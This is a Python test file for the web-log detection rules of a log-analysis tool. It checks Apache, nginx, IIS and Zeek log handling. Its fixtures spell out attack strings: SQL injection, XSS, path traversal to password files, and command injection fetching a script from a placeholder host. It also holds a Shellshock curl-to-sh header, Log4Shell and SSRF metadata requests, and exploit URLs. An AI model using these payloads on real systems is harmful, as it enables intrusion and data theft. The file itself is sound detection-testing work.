"""The shipped rules on web access and error logs (Apache, nginx, IIS, Zeek, raw requests): each fires on an attack and stays quiet on a benign neighbour."""

from __future__ import annotations

import json
import re
from datetime import datetime

import pytest
from _rule_events import (
    _entra,
    _gcp,
    access,
    by_rule,
    fired,
    parsed,
    web,
)

from logwarden.app.detect import Detector
from logwarden.app.detect.normalise import decoded
from logwarden.app.events import Event


@pytest.mark.parametrize("request_line, rule_id", [
    ("GET /products.php?id=1%20UNION%20ALL%20SELECT%20NULL,concat(user(),0x3a,version())--%20- HTTP/1.1", "lw-web-sqli"),
    ("GET /login.php?user=admin%27%20or%20%271%27%3D%271&pass=x HTTP/1.1", "lw-web-sqli"),
    ("GET /item?id=1%2527%2520AND%2520SLEEP(5)%2523 HTTP/1.1", "lw-web-sqli"),  # double-encoded
    ("GET /news?id=-1+union/**/select+1,table_name+from+information_schema.tables HTTP/1.1", "lw-web-sqli"),
    ("GET /cart?qty=%27%3B+DROP+TABLE+users HTTP/1.1", "lw-web-sqli"),  # stacked query, no SELECT
    ("GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", "lw-web-xss"),
    ("GET /profile?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1", "lw-web-xss"),
    ("GET /redirect?url=javascript:alert(1) HTTP/1.1", "lw-web-xss"),
    ("GET /page?x=%3Clink+rel%3D%22stylesheet%22+href%3D%22http%3A%2F%2F198.51.100.9%2Fx.css%22%3E HTTP/1.1", "lw-web-xss"),
    ("GET /page?x=%3Cmeta+http-equiv%3D%22refresh%22+content%3D%220%3Burl%3Ddata%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD4%3D%22%3E HTTP/1.1", "lw-web-xss"),
    ("GET /page?x=%3Cstyle%3Ebody%7B-moz-binding%3Aurl(%22http%3A%2F%2F198.51.100.9%2Fx.xml%23x%22)%7D%3C%2Fstyle%3E HTTP/1.1", "lw-web-xss"),
    ("GET /page?x=%3Cimg+src%3D%22livescript%3A%5Bcode%5D%22%3E HTTP/1.1", "lw-web-xss"),
    ("GET /download.php?file=../../../../etc/passwd HTTP/1.1", "lw-web-path-traversal"),
    ("GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1", "lw-web-path-traversal"),
    ("GET /static/..%252f..%252f..%252fetc%252fshadow HTTP/1.1", "lw-web-path-traversal"),
    ("GET /download?f=/0x2e0x2e0x5c0x2e0x2e0x5cboot.ini HTTP/1.1", "lw-web-path-traversal"),  # hex-escaped dots
    ("GET /app?page=....//WEB-INF/web.xml HTTP/1.1", "lw-web-path-traversal"),
    ("GET /cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", "lw-web-command-injection"),
    ("GET /api/exec?cmd=x%7Cid HTTP/1.1", "lw-web-command-injection"),
    ("GET /shell?c=$(wget%20http://198.51.100.9/x.sh) HTTP/1.1", "lw-web-command-injection"),
    ("GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1", "lw-web-log4shell"),
    ("GET /cart.jsp?id=2&nombre=%27+DELETE+FROM+USERS&precio=39 HTTP/1.1", "lw-web-sqli"),  # stacked DELETE, no SELECT
    # boolean-, error- and time-based templates as injection tools send them
    ("GET /item.php?id=1%27%29%29+and+elt%284249%3D4249%2C7259%29+and+%28%28%27oucg%27%3D%27oucg HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=1%22%29+as+kbjt+where+2012%3D2012+and+%285978%3D6898%29%2A6898-- HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=1%29%29%29%3Biif%285257%3D5257%2C1%2C1%2F0%29 HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=%28select+%2A+from+generate_series%284990%2C4990%2Ccase+when+%284990%3D5065%29+then+1+else+0+end%29+limit+1%29 HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=1+or+char%2868%29%7C%7Cchar%2869%29%3Dregexp_substring%28repeat%28right%28char%285389%29%2C0%29%2C5000000000%29%2Cnull%29 HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=-7404%27+where+1536%3D1536+order+by+1%23 HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=1%22%29%29%29+and+exp%28~%28select+%2A+from+%28select+concat%280x7171706a71%2C1%29%29x%29%29 HTTP/1.1", "lw-web-sqli"),
    ("GET /item.php?id=1%27+in+boolean+mode%29+and+make_set%288403%3D8403%2C8899%29%23 HTTP/1.1", "lw-web-sqli"),
    ("GET /tienda1/publico/caracteristicas.jsp?id=2%27OR%27a%3D%27a HTTP/1.1", "lw-web-sqli"),  # tautology, no spaces
    ("GET /form.jsp?login=%3C%21--%23EXEC+cmd%3D%22ls+%2F%22--%3E HTTP/1.1", "lw-web-ssi-injection"),
    ("GET /item.jsp?precio=39%3C%21--%23include+file%3D%22secret%22+--%3E HTTP/1.1", "lw-web-ssi-injection"),
    ("GET /login.jsp?B1=any%0D%0ASet-cookie%3A+Tamper%3D1041264011025374727 HTTP/1.1", "lw-web-header-injection"),
    ("GET /redirect?to=%2F%0ALocation%3A+http%3A%2F%2F198.51.100.9%2F HTTP/1.1", "lw-web-header-injection"),
    ("GET /item.jsp?precio=Set-cookie%3A+Tamper%3D5765205567234876235 HTTP/1.1", "lw-web-header-injection"),
])
def test_web_attack_payloads(detector, request_line, rule_id):
    signal = by_rule(detector.scan([web(request_line, status=404)]), rule_id)
    assert [(s.key, s.category) for s in signal] == [("203.0.113.50", "web_attack")]


def test_shellshock_in_user_agent(detector):
    event = web("GET /cgi-bin/status HTTP/1.1", agent="() { :; }; /bin/bash -c 'curl http://198.51.100.9/x|sh'")
    assert fired(detector.scan([event])) >= {"lw-web-command-injection"}


@pytest.mark.parametrize("request_line", [
    "GET /products.php?id=42&sort=name HTTP/1.1",
    "GET /search?q=cats+or+dogs&page=2 HTTP/1.1",
    "GET /blog/2024/03/select-the-right-union-for-you HTTP/1.1",
    "GET /static/js/app.3f2a1b.js HTTP/1.1",
    "GET /docs/getting-started?ref=nav;jsessionid=A1B2 HTTP/1.1",
    "POST /api/v1/orders HTTP/1.1",
    "GET /wp-content/themes/shell-theme/style.css HTTP/1.1",
    "GET /config/settings?tab=old HTTP/1.1",  # a page named config, a value named old: no file extension
    "GET /docs/backup-and-restore.html HTTP/1.1",
    "GET /search?q=how+to+insert+a+table+into+a+document HTTP/1.1",
    "GET /comments?text=%3C%21--+a+plain+HTML+comment+--%3E HTTP/1.1",
    "GET /~alice/index.html HTTP/1.1",
    "GET /catalog/item.php?value=c%2F%20caridad%20s%2Fn HTTP/1.1",
    "GET /shop?ciudad=Santa+Maria+d%27Oló&name=O%27Brien HTTP/1.1",
    "GET /search?q=2+and+3+are+prime&order=asc HTTP/1.1",  # words and numbers, no comparison
    "GET /shop?size=10&color=red;sessionid=77 HTTP/1.1",
    "GET /help/how-to-order-by-date HTTP/1.1",
    "GET /docs/sql?topic=select-statements HTTP/1.1",
    "GET /help?q=how+to+style+a+link+in+css HTTP/1.1",
    "GET /img?src=data-sheet.pdf&type=meta HTTP/1.1",
])
def test_benign_requests_make_no_signal(detector, request_line):
    assert detector.scan([web(request_line)]) == []


def test_a_direct_web_inf_request_is_not_path_traversal(detector):
    """Asking for /WEB-INF/web.xml is a scanner's probe; climbing to it through dots, or naming it in a
    parameter (file inclusion), is traversal."""
    assert by_rule(detector.scan([web("HEAD /WEB-INF/web.xml HTTP/1.1", status=404)]), "lw-web-path-traversal") == []
    assert by_rule(detector.scan([web("GET /download?file=WEB-INF/web.xml HTTP/1.1")]), "lw-web-path-traversal")


def test_attempts_from_one_address_merge_into_one_signal(detector):
    events = [web(f"GET /item.php?id={i}%27%20OR%201=1--%20 HTTP/1.1", line_no=i, second=i) for i in range(1, 43)]
    events.insert(10, web("GET /item.php?id=7%27%20OR%201=1-- HTTP/1.1", ip="198.51.100.1", line_no=100))
    signals = by_rule(detector.scan(events), "lw-web-sqli")
    assert [(s.key, len(s.line_numbers)) for s in signals] == [("203.0.113.50", 42), ("198.51.100.1", 1)]
    assert signals[0].description.startswith("42 matching lines for src_ip=203.0.113.50")


def test_line_numbers_are_capped_but_the_count_is_true(rules):
    events = [web("GET /?id=1%20union%20select%201 HTTP/1.1", line_no=i, second=i % 60) for i in range(1, 1201)]
    signal = by_rule(Detector(rules).scan(events), "lw-web-sqli")[0]
    assert len(signal.line_numbers) == 500
    assert signal.line_numbers[:2] == [1, 2] and signal.line_numbers[-1] == 1200
    assert signal.description.startswith("1200 matching lines")


@pytest.mark.parametrize("request_line", [
    "GET /tienda1/4861362529278789730.inc HTTP/1.1",
    "GET /admin/index.php.bak HTTP/1.1",
    "GET /app/config.php~ HTTP/1.1",
    "GET /site/web.config HTTP/1.1",
    "GET /includes/.settings.php.swp HTTP/1.1",
    "GET /publico/pagar.jsp.old?modo=insertar HTTP/1.1",
])
def test_backup_and_include_files_are_a_low_reconnaissance_signal(detector, request_line):
    [signal] = detector.scan([web(request_line, status=404)])
    assert (signal.rule_id, signal.level, signal.category) == ("lw-web-backup-file-probe", "low", "reconnaissance")


@pytest.mark.parametrize("request_line", [
    "GET /iissamples/ExAir/Default.asp HTTP/1.1",
    "GET /iisadmpwd/aexp.htr HTTP/1.1",
    "GET /scripts/tools/newdsn.exe HTTP/1.1",
    "GET /CFIDE/administrator/index.cfm HTTP/1.1",
    "GET /servlet/snoop HTTP/1.1",
    "GET /examples/jsp/snp/snoop.jsp HTTP/1.1",
    "GET /jmx-console/HtmlAdaptor HTTP/1.1",
    "GET /names.nsf HTTP/1.1",
    "GET /cgi-bin/phf?Qalias=x HTTP/1.0",
    "GET /default.ida?NNNNNNNN HTTP/1.0",
    "GET /_vti_bin/shtml.dll HTTP/1.1",
])
def test_server_sample_and_console_probes_are_low_reconnaissance(detector, request_line):
    [signal] = by_rule(detector.scan([web(request_line, status=404)]), "lw-web-server-sample-probe")
    assert (signal.level, signal.category) == ("low", "reconnaissance")


@pytest.mark.parametrize("request_line", [
    "GET /docs/samples/index.html HTTP/1.1",  # a site's own samples folder
    "GET /blog/examples-of-good-design HTTP/1.1",
    "GET /app/idaho.html HTTP/1.1",
    "GET /search?q=names.nsf HTTP/1.1",  # the words in a query are not a request for the resource
    "GET /static/scripts/app.js HTTP/1.1",
])
def test_ordinary_paths_are_not_server_sample_probes(detector, request_line):
    assert by_rule(detector.scan([web(request_line)]), "lw-web-server-sample-probe") == []


def test_webshell_success_is_critical_and_probe_is_low(detector):
    hit = detector.scan([web("POST /wp-content/uploads/2024/03/shell.php?cmd=id HTTP/1.1", status=200)])
    probe = detector.scan([web("GET /c99.php HTTP/1.1", status=404, line_no=2)])
    assert [(s.rule_id, s.level) for s in hit if "webshell" in s.rule_id] == [("lw-web-webshell-access", "critical")]
    assert [(s.rule_id, s.level) for s in probe] == [("lw-web-webshell-probe", "low")]


@pytest.mark.parametrize("agent", [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
])
def test_scanner_user_agents_are_medium(detector, agent):
    signal = by_rule(detector.scan([web("GET / HTTP/1.1", agent=agent)]), "lw-web-scanner-user-agent")
    assert [(s.level, s.category) for s in signal] == [("medium", "reconnaissance")]


def test_many_404s_from_one_client_is_scanning_but_one_404_is_nothing(detector):
    assert detector.scan([web("GET /favicon.ico HTTP/1.1", status=404)]) == []
    burst = [web(f"GET /{word} HTTP/1.1", status=404, line_no=i, second=i)
             for i, word in enumerate(["admin", "backup", "old", "test", "dev"] * 8, start=2)]
    signal = by_rule(detector.scan(burst), "lw-web-scanning-errors")[0]
    assert signal.line_numbers == list(range(1, 42))  # the earlier lone 404 (other batch) is part of it


@pytest.mark.parametrize("request_line, status", [
    ("POST /login.php HTTP/1.1", 401), ("POST /api/v1/auth/token HTTP/1.1", 403),
    ("POST /user/signin HTTP/1.1", 401), ("POST /wp-login.php HTTP/1.1", 200),  # WordPress: 200 = wrong password
    ("POST /xmlrpc.php HTTP/1.1", 200)])
def test_refused_login_posts_are_password_guessing_not_scanning(rules, request_line, status):
    burst = [web(request_line, status=status, line_no=i, second=i % 60) for i in range(1, 26)]
    signals = Detector(rules).scan(burst)
    assert [s.category for s in signals] == ["brute_force"] and fired(signals) == {"lw-web-login-brute-force"}
    assert Detector(rules).scan(burst[:10]) == []  # ten refused logins are a forgotten password


def test_payloads_in_raw_http_request_dumps_fire_the_web_rules(rules):
    from _ingest_helpers import log_lines
    from _log_fixtures import RAW_REQUESTS

    from logwarden.app.parse import parse_lines

    signals = Detector(rules).scan(list(parse_lines(log_lines(RAW_REQUESTS), "http_request")))
    sqli = by_rule(signals, "lw-web-sqli")
    assert sorted(n for s in sqli for n in s.line_numbers) == [1, 13]  # the query string and the POST body
    assert [n for s in by_rule(signals, "lw-web-scanner-user-agent") for n in s.line_numbers] == [9]


@pytest.mark.parametrize("request_line", [
    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5 HTTP/1.1",
    "POST /GponForm/diag_Form?images/ HTTP/1.1",
    "POST /index.action?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1",
    "GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1",
    "POST /autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com HTTP/1.1",
    "GET /mgmt/tm/util/bash HTTP/1.1",
    "GET /?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1",
    "GET /?%3C?php%20system($_GET['c']);%20?%3E HTTP/1.1",
])
def test_mass_exploited_cve_requests_are_web_attacks_medium_when_refused(rules, request_line):
    for status in (404, 301):
        refused = Detector(rules).scan([web(request_line, status=status)])
        assert [(s.rule_id, s.level) for s in refused] == [("lw-web-known-exploit-refused", "medium")]
    for status in (200, 500):
        served = Detector(rules).scan([web(request_line, status=status)])
        assert ("lw-web-known-exploit", "high") in [(s.rule_id, s.level) for s in served]


@pytest.mark.parametrize("request_line", [
    "GET /api/items?filter={%22name%22:%22boots%22} HTTP/1.1", "GET /owa/auth/logon.aspx HTTP/1.1",
    "GET /docs/php-tutorial HTTP/1.1", "GET /blog/classloader-internals HTTP/1.1"])
def test_exploit_lookalikes_are_quiet(rules, request_line):
    assert Detector(rules).scan([web(request_line, status=200)]) == []


def test_refused_gets_and_accepted_logins_are_not_password_guessing(rules):
    pages = [web("GET /admin/login HTTP/1.1", status=403, line_no=i, second=i % 60) for i in range(1, 41)]
    logins = [web("POST /login HTTP/1.1", status=302, line_no=i, second=i % 60) for i in range(41, 81)]
    assert fired(Detector(rules).scan(pages + logins)) == {"lw-web-scanning-errors"}


def test_many_distinct_paths_is_crawling_but_static_assets_do_not_count(rules):
    pages = [web(f"GET /page/{i} HTTP/1.1", line_no=i, second=i % 60) for i in range(1, 61)]
    assets = [web(f"GET /static/img{i}.png HTTP/1.1", line_no=i, second=i % 60) for i in range(1, 200)]
    assert by_rule(Detector(rules).scan(pages), "lw-web-scanning-distinct-paths")[0].key == "203.0.113.50"
    assert Detector(rules).scan(assets) == []


def test_url_decode_handles_double_encoding_and_plus():
    assert decoded("%2527%2520or%25201%253D1") == "' or 1=1"
    assert decoded("a+b%20c") == "a b c"
    assert decoded("100%") == "100%"


def apache_error(line: str, line_no: int = 1) -> Event:
    m = re.match(r"^\[([^\]]+)\] \[(\w+):(\w+)\] \[pid (\d+)[^\]]*\](?: \[client ([^\]]+)\])? (.*)$", line)
    stamp, module, level, pid, client, message = m.groups()
    fields = {"level": level, "module": module, "pid": int(pid)}
    if client:
        fields["src_ip"] = client.rsplit(":", 1)[0]
    if code := re.match(r"(AH\d{5})", message):
        fields["error_code"] = code.group(1)
    ts = datetime.strptime(stamp[:19] + stamp[-5:], "%a %b %d %H:%M:%S %Y")
    return Event(source="error.log", line_no=line_no, offset=0, raw=line, format="apache_error", ts=ts,
                 message=message, fields=fields)


def err(i: int, client: str, text: str) -> str:
    return f"[Tue Mar 12 07:42:{i:02d}.264903 2024] [authz_core:error] [pid 31200:tid 1398] [client {client}:43101] {text}"


def test_error_log_scanner_burst_but_not_a_few_denials(rules):
    texts = ["AH01630: client denied by server configuration: /var/www/html/.htaccess",
             "AH02811: script not found or unable to stat: /usr/lib/cgi-bin/printenv"]
    burst = [apache_error(err(i, "198.51.100.23", texts[i % 2]), i) for i in range(1, 11)]
    assert by_rule(Detector(rules).scan(burst), "lw-weberr-scanner-errors")[0].key == "198.51.100.23"
    assert Detector(rules).scan(burst[:3]) == []


@pytest.mark.parametrize("text, rule_id", [
    ("AH01071: Got error 'PHP message: PHP Fatal error:  Uncaught mysqli_sql_exception: You have an error in your SQL "
     "syntax; check the manual that corresponds to your MySQL server version'", "lw-weberr-sql-error"),
    ("AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd)", "lw-weberr-traversal"),
    ("AH01071: Got error 'PHP message: PHP Warning:  include(php://filter/convert.base64-encode/resource=config.php): "
     "Failed to open stream: operation failed'", "lw-weberr-traversal"),
    ("AH01215: sh: 1: wget: not found: /usr/lib/cgi-bin/diag.cgi", "lw-weberr-command-output"),
    ("AH01215: uid=33(www-data) gid=33(www-data) groups=33(www-data): /usr/lib/cgi-bin/diag.cgi", "lw-weberr-command-output"),
    ("AH01071: Got error 'PHP message: PHP Warning:  Undefined array key \"cmd\" in /var/www/html/uploads/shell.php on "
     "line 2'", "lw-weberr-webshell"),
])
def test_error_log_echoes_of_web_attacks(detector, text, rule_id):
    signals = by_rule(detector.scan([apache_error(err(5, "203.0.113.23", text), 7)]), rule_id)
    assert [(s.key, s.level, s.line_numbers) for s in signals] == [("203.0.113.23", "high", [7])]


@pytest.mark.parametrize("text", [
    "AH01071: Got error 'PHP message: PHP Warning:  Undefined variable $cart in /var/www/html/cart.php on line 88'",
    "AH00124: Request exceeded the limit of 10 internal redirects due to probable configuration error.",
    "AH01382: Request header read timeout",
])
def test_error_log_benign_lines(detector, text):
    assert detector.scan([apache_error(err(5, "10.0.0.7", text))]) == []


def test_apache_2_0_error_log_worm_probes_and_scanner_burst(rules):
    """Old Apache error lines carry no AH codes (LogHub Apache_2k): the IIS worm probes' encoded
    traversal and cmd.exe/root.exe paths are web attacks; a burst of missing files is scanning."""
    probes = ["..%255c%255c../winnt/system32/cmd.exe", "..%c1%9c../winnt/system32/cmd.exe", "root.exe",
              "..%255c../..%255c../..%255c../winnt/system32/cmd.exe"]
    lines = [f"[Sun Dec 04 06:01:4{i} 2005] [error] [client 222.166.160.184] File does not exist: /var/www/html/scripts/{p}"
             for i, p in enumerate(probes)]
    [signal] = by_rule(Detector(rules).scan(parsed(lines, "apache_error", "error_log")), "lw-weberr-traversal")
    assert (signal.key, signal.level, signal.line_numbers) == ("222.166.160.184", "high", [1, 2, 3, 4])
    missing = [f"[Sun Dec 04 07:10:{i:02d} 2005] [error] [client 64.6.73.199] File does not exist: /var/www/html/{p}"
               for i, p in enumerate(["admin", "phpmyadmin", "wp-login.php", "backup.zip", ".git", "old", "test", "db"])]
    [scan] = by_rule(Detector(rules).scan(parsed(missing, "apache_error", "error_log")), "lw-weberr-scanner-errors")
    assert scan.key == "64.6.73.199"
    assert Detector(rules).scan(parsed(missing[:3] + ["[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok "
                                                      "/etc/httpd/conf/workers2.properties"], "apache_error")) == []


def test_nginx_error_log_probe_burst_is_scanning_not_a_web_shell(rules):
    paths = ["wp-login.php", ".env", "phpmyadmin/index.php", ".git/config", "admin.php", "backup.zip",
             "config.php.bak", "shell.php", "server-status"]
    lines = [f'2024/03/12 07:42:{10 + i} [error] 1234#1234: *{5 + i} open() "/usr/share/nginx/html/{p}" failed '
             f'(2: No such file or directory), client: 45.155.205.233, server: _, request: "GET /{p} HTTP/1.1", '
             f'host: "shop"' for i, p in enumerate(paths)]
    signals = Detector(rules).scan(parsed(lines, "apache_error", "error.log"))
    assert fired(signals) == {"lw-weberr-scanner-errors"}  # /shell.php that does not exist is a probe
    assert by_rule(signals, "lw-weberr-scanner-errors")[0].line_numbers == list(range(1, 10))


def test_iis_w3c_log_attacks_fire_the_web_rules(rules):
    lines = ["#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
             "cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
             "2024-03-12 07:41:02 10.0.0.4 GET /products.aspx id=1'+UNION+SELECT+username,password+FROM+users-- 443 - "
             "45.9.20.11 sqlmap/1.7.2#stable+(https://sqlmap.org) - 500 0 0 31",
             "2024-03-12 07:41:05 10.0.0.4 GET /../../../../windows/win.ini - 443 - 45.9.20.11 Mozilla/5.0 - 404 0 2 1",
             "2024-03-12 07:42:00 10.0.0.4 GET /default.aspx - 443 - 10.1.2.3 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15"]
    signals = Detector(rules).scan(parsed(lines, "w3c", "u_ex240312.log"))
    assert {s.category for s in signals} >= {"web_attack", "reconnaissance"}
    assert all(s.key == "45.9.20.11" and 4 not in s.line_numbers for s in signals)


def test_zeek_http_log_attacks_fire_the_web_rules(rules):
    head = "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\tversion\tuser_agent\tstatus_code"
    rows = [f"171022933{i}.5\tC{i}\t45.9.20.11\t5123{i}\t10.0.0.4\t80\tGET\tshop\t{uri}\t1.1\tcurl/8.0\t200"
            for i, uri in enumerate(["/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/../../../../etc/passwd"])]
    signals = Detector(rules).scan(parsed([head, *rows], "zeek", "http.log"))
    assert {(s.rule_id, s.key) for s in signals} == {("lw-web-sqli", "45.9.20.11"), ("lw-web-path-traversal", "45.9.20.11")}


@pytest.mark.parametrize("lines, rule_id", [
    ([_gcp("SetIamPolicy", serviceData={"policyDelta": {"bindingDeltas": [
        {"action": "ADD", "role": "roles/owner", "member": "user:outsider@gmail.com"}]}})], "lw-gcp-privileged-role-granted"),
    ([_gcp("storage.setIamPermissions", "storage.googleapis.com", serviceData={"policyDelta": {"bindingDeltas": [
        {"action": "ADD", "role": "roles/storage.objectViewer", "member": "allUsers"}]}})], "lw-gcp-bucket-made-public"),
    ([_gcp("google.iam.admin.v1.CreateServiceAccountKey", "iam.googleapis.com")], "lw-gcp-service-account-key-created"),
    ([_gcp("google.logging.v2.ConfigServiceV2.DeleteSink", "logging.googleapis.com")], "lw-gcp-logging-tampered"),
    ([_gcp("v1.compute.firewalls.insert", "compute.googleapis.com",
           request={"sourceRanges": ["0.0.0.0/0"], "allowed": [{"IPProtocol": "tcp", "ports": ["22"]}]})],
     "lw-gcp-firewall-open-to-world"),
    ([_entra(f"user{i}@contoso.com", i * 20) for i in range(6)], "lw-entra-signin-spray"),
    ([_entra("admin@contoso.com", i * 20) for i in range(10)], "lw-entra-signin-bruteforce"),
    ([json.dumps({"createdDateTime": f"2025-04-02T10:00:{i:02d}Z", "userPrincipalName": f"u{i}@contoso.com",
                  "ipAddress": "45.9.20.13", "status": {"errorCode": 50126}}) for i in range(5)], "lw-entra-signin-spray"),
])
def test_gcp_audit_and_entra_signin_attacks(rules, lines, rule_id):
    signals = by_rule(Detector(rules).scan(parsed(lines, "json", "cloud.json")), rule_id)
    assert len(signals) == 1 and signals[0].line_numbers == list(range(1, len(lines) + 1))
    assert signals[0].key in ("ci@acme-prod.iam.gserviceaccount.com", "45.9.20.13")


def test_ordinary_downloads_are_quiet(detector):
    line = '10.0.0.9 - - [12/Mar/2024:18:05:06 +0000] "GET /downloads/app-1.2.zip HTTP/1.1" 200 52428800 "-" "curl/8.4.0"'
    assert detector.scan([access(line)]) == []
